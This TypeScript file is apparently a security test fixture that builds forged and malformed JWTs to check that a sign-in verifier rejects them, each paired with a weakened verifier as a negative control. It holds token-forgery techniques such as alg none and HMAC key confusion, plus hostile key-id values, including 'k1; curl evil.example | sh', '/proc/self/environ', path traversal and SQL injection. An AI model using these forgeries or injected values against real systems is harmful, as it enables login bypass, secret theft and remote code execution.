import { createSecretKey } from 'node:crypto';
import * as jose from 'jose';
import {
  AUDIENCE,
  type SignInProvider,
  type SigningKey,
  type TokenOptions,
  tokenOf,
} from '../../support/upstream/sign-in-provider.ts';

export interface Scene {
  readonly provider: SignInProvider;
  /** Published by the provider. */
  readonly key: SigningKey;
  /** Known to nobody but the attacker, who serves it at `evilKeys`. */
  readonly stranger: SigningKey;
  readonly evilKeys: string;
  /** 32 bytes that stand in the provider's set as a key of kind `oct`. */
  readonly shared: Uint8Array;
  /** Published for encryption (`use: enc`). */
  readonly encryption: SigningKey;
}

export interface Attack {
  readonly name: string;
  readonly token: (scene: Scene) => Promise<string>;
  /**
   * The negative control: a verifier without the one guard that keeps this token out. It gives the payload, so it is the
   * guard that refuses and not a token that was badly made.
   */
  readonly withoutGuard: (token: string, scene: Scene) => Promise<unknown>;
}

const now = (): number => Math.floor(Date.now() / 1000);
const HOUR = 3600;
const part = (value: unknown): string =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
const payloadOf = (token: string): string => token.split('.')[1] ?? '';
const good = (scene: Scene, options?: TokenOptions): Promise<string> =>
  tokenOf(scene.provider.issuer, scene.key, options);

/** What jose checks with no more than a key and an audience. */
const joseAlone =
  (options: jose.JWTVerifyOptions = {}, keyOf: (scene: Scene) => CryptoKey = ({ key }) => key.publicKey) =>
  async (token: string, scene: Scene): Promise<unknown> =>
    (await jose.jwtVerify(token, keyOf(scene), { audience: AUDIENCE, ...options })).payload;

/** Signed by the provider's key over bytes that no library would write. */
async function rawToken({ key }: Scene, header: string, payload: string): Promise<string> {
  const input = `${part(header)}.${part(payload)}`;
  const algorithm = { name: 'ECDSA', hash: 'SHA-256' };
  const signature = await crypto.subtle.sign(algorithm, key.privateKey, new TextEncoder().encode(input));
  return `${input}.${Buffer.from(signature).toString('base64url')}`;
}

const rawPayload = (scene: Scene, more = ''): string =>
  `{"iss":"${scene.provider.issuer}","aud":"${AUDIENCE}","sub":"alice","exp":${now() + HOUR}${more}}`;

const publicPem = async ({ key }: Scene): Promise<Uint8Array> =>
  new TextEncoder().encode(await jose.exportSPKI(key.publicKey));

const strangers = (name: string, header: (scene: Scene) => object): Attack => ({
  name,
  token: (scene) => tokenOf(scene.provider.issuer, scene.stranger, { header: { kid: 'k1', ...header(scene) } }),
  withoutGuard: joseAlone({}, ({ stranger }) => stranger.publicKey),
});

const hostileKid = (name: string, kid: string): Attack => strangers(`with ${name} for a key id`, () => ({ kid }));

export const ATTACKS: readonly Attack[] = [
  {
    name: 'without a signature (alg none)',
    token: async (scene) => `${part({ alg: 'none', typ: 'JWT' })}.${payloadOf(await good(scene))}.`,
    withoutGuard: async (token) => jose.UnsecuredJWT.decode(token, { audience: AUDIENCE }).payload,
  },
  {
    name: 'without a signature, in other letters (alg nOnE)',
    token: async (scene) => `${part({ alg: 'nOnE' })}.${payloadOf(await good(scene))}.AA`,
    withoutGuard: async (token) => jose.decodeJwt(token),
  },
  {
    name: 'signed by HMAC with the public key in PEM (algorithm confusion)',
    token: async (scene) =>
      new jose.SignJWT(jose.decodeJwt(await good(scene)))
        .setProtectedHeader({ alg: 'HS256', kid: 'k1' })
        .sign(await publicPem(scene)),
    withoutGuard: async (token, scene) =>
      (await jose.jwtVerify(token, createSecretKey(await publicPem(scene)), { audience: AUDIENCE })).payload,
  },
  {
    name: 'signed by HMAC with the public key as a JWK',
    token: async (scene) =>
      new jose.SignJWT(jose.decodeJwt(await good(scene)))
        .setProtectedHeader({ alg: 'HS256', kid: 'k1' })
        .sign(new TextEncoder().encode(JSON.stringify(scene.key.jwk))),
    withoutGuard: async (token, { key }) =>
      (await jose.jwtVerify(token, new TextEncoder().encode(JSON.stringify(key.jwk)), { audience: AUDIENCE })).payload,
  },
  {
    name: 'signed with a symmetric key that the provider publishes',
    token: async (scene) =>
      new jose.SignJWT(jose.decodeJwt(await good(scene)))
        .setProtectedHeader({ alg: 'HS256', kid: 'shared' })
        .sign(scene.shared),
    withoutGuard: async (token, { shared }) => (await jose.jwtVerify(token, shared, { audience: AUDIENCE })).payload,
  },
  {
    name: 'signed with a key that is published for encryption',
    token: (scene) => tokenOf(scene.provider.issuer, scene.encryption),
    withoutGuard: joseAlone({}, ({ encryption }) => encryption.publicKey),
  },
  { ...strangers('signed by a stranger under the name of a key', () => ({})) },
  { ...strangers('that brings its key (jwk)', ({ stranger }) => ({ jwk: stranger.jwk })) },
  { ...strangers('that says where its key is (jku)', ({ evilKeys }) => ({ jku: evilKeys, kid: 'evil' })) },
  { ...strangers('that says where its certificate is (x5u)', ({ evilKeys }) => ({ x5u: evilKeys, kid: 'evil' })) },
  { ...strangers('that brings its certificate (x5c)', () => ({ x5c: ['MIIB'], kid: 'evil' })) },
  hostileKid('a path', '../../../../dev/null'),
  hostileKid('an absolute path', '/proc/self/environ'),
  hostileKid('SQL', "k1' OR '1'='1"),
  hostileKid('a command', 'k1; curl evil.example | sh'),
  hostileKid('an address', 'http://127.0.0.1/keys'),
  hostileKid('what objects inherit', '__proto__'),
  hostileKid('four thousand characters', 'k'.repeat(4000)),
  hostileKid('nothing', ''),
  {
    name: 'with a number for a key id',
    token: (scene) => rawToken(scene, '{"alg":"ES256","kid":1}', rawPayload(scene)),
    withoutGuard: joseAlone(),
  },
  {
    name: 'of another issuer',
    token: (scene) => good(scene, { claims: { iss: 'https://evil.example' } }),
    withoutGuard: joseAlone(),
  },
  {
    name: 'of the issuer with a slash, which is another one',
    token: (scene) => good(scene, { claims: { iss: `${scene.provider.issuer}/` } }),
    withoutGuard: joseAlone(),
  },
  {
    name: 'of no issuer',
    token: (scene) => good(scene, { claims: { iss: undefined } }),
    withoutGuard: joseAlone(),
  },
  {
    name: 'of another audience',
    token: (scene) => good(scene, { claims: { aud: 'other-app' } }),
    withoutGuard: joseAlone({ audience: 'other-app' }),
  },
  {
    name: 'of an audience that begins alike',
    token: (scene) => good(scene, { claims: { aud: `${AUDIENCE}.evil.example` } }),
    withoutGuard: joseAlone({ audience: `${AUDIENCE}.evil.example` }),
  },
  {
    name: 'of no audience',
    token: (scene) => good(scene, { claims: { aud: undefined } }),
    withoutGuard: async (token, { key }) => (await jose.jwtVerify(token, key.publicKey)).payload,
  },
  {
    name: 'that has expired',
    token: (scene) => good(scene, { claims: { exp: now() - 60 } }),
    withoutGuard: joseAlone({ currentDate: new Date(Date.now() - 120_000) }),
  },
  {
    name: 'that never expires',
    token: (scene) => good(scene, { claims: { exp: undefined } }),
    withoutGuard: joseAlone(),
  },
  {
    name: 'that expires at 1e999',
    token: (scene) =>
      rawToken(scene, '{"alg":"ES256","kid":"k1"}', rawPayload(scene).replace(/"exp":\d+/, '"exp":1e999')),
    withoutGuard: joseAlone(),
  },
  {
    name: 'whose expiry is a string',
    token: (scene) => good(scene, { claims: { exp: '9999999999' as never } }),
    withoutGuard: async (token, { key }) =>
      JSON.parse(new TextDecoder().decode((await jose.compactVerify(token, key.publicKey)).payload)),
  },
  {
    name: 'that is not valid yet',
    token: (scene) => good(scene, { claims: { nbf: now() + 60 } }),
    withoutGuard: joseAlone({ currentDate: new Date(Date.now() + 120_000) }),
  },
  {
    name: 'that was issued in the future',
    token: (scene) => good(scene, { claims: { iat: now() + 60 } }),
    withoutGuard: joseAlone(),
  },
  {
    name: 'that was issued before there were clocks',
    token: (scene) => good(scene, { claims: { iat: -1 } }),
    withoutGuard: joseAlone(),
  },
  {
    name: 'without a subject',
    token: (scene) => good(scene, { claims: { sub: undefined } }),
    withoutGuard: joseAlone(),
  },
  {
    name: 'with an empty subject',
    token: (scene) => good(scene, { claims: { sub: '' } }),
    withoutGuard: joseAlone(),
  },
  ...['logout+jwt', 'dpop+jwt', 'secevent+jwt', 'entity-statement+jwt', 'JWTX', ''].map(
    (typ): Attack => ({
      name: `of the type "${typ}"`,
      token: (scene) => good(scene, { header: { typ } }),
      withoutGuard: joseAlone(),
    }),
  ),
  {
    name: 'with a critical extension',
    token: (scene) => rawToken(scene, '{"alg":"ES256","kid":"k1","crit":["x"],"x":1}', rawPayload(scene)),
    withoutGuard: joseAlone({ crit: { x: true } }),
  },
  {
    name: 'whose payload may be unencoded (b64)',
    token: (scene) => rawToken(scene, '{"alg":"ES256","kid":"k1","b64":false}', rawPayload(scene)),
    withoutGuard: joseAlone(),
  },
  {
    name: 'with a header that says two algorithms',
    token: (scene) => rawToken(scene, '{"alg":"none","kid":"k1","\\u0061lg":"ES256"}', rawPayload(scene)),
    withoutGuard: joseAlone(),
  },
  {
    name: 'with a claim twice',
    token: (scene) => rawToken(scene, '{"alg":"ES256","kid":"k1"}', rawPayload(scene, ',"sub":"root"')),
    withoutGuard: joseAlone(),
  },
  {
    name: 'with a claim twice, deep inside',
    token: (scene) => rawToken(scene, '{"alg":"ES256","kid":"k1"}', rawPayload(scene, ',"a":[{"role":1,"role":2}]')),
    withoutGuard: joseAlone(),
  },
  {
    name: 'whose payload is a list',
    token: (scene) => rawToken(scene, '{"alg":"ES256","kid":"k1"}', `[${rawPayload(scene)}]`),
    withoutGuard: async (token, { key }) =>
      JSON.parse(new TextDecoder().decode((await jose.compactVerify(token, key.publicKey)).payload)),
  },
  {
    name: 'that holds a token (nested)',
    token: async (scene) => rawToken(scene, '{"alg":"ES256","kid":"k1","cty":"JWT"}', await good(scene)),
    withoutGuard: async (token, scene) => {
      const { payload } = await jose.compactVerify(token, scene.key.publicKey);
      return joseAlone()(new TextDecoder().decode(payload), scene);
    },
  },
  {
    name: 'that is encrypted (JWE)',
    token: async (scene) =>
      new jose.EncryptJWT(jose.decodeJwt(await good(scene)))
        .setProtectedHeader({ alg: 'dir', enc: 'A256GCM' })
        .encrypt(scene.shared),
    withoutGuard: async (token, { shared }) => (await jose.jwtDecrypt(token, shared, { audience: AUDIENCE })).payload,
  },
  {
    name: 'whose payload was changed',
    token: async (scene) => {
      const [head, body, signature] = (await good(scene)).split('.');
      const claims = { ...(JSON.parse(Buffer.from(body ?? '', 'base64url').toString()) as object), role: 'admin' };
      return `${head}.${part(claims)}.${signature}`;
    },
    withoutGuard: async (token) => jose.decodeJwt(token),
  },
  {
    name: 'of 9,000 characters',
    token: (scene) => good(scene, { claims: { pad: 'x'.repeat(6500) } }),
    withoutGuard: joseAlone(),
  },
];
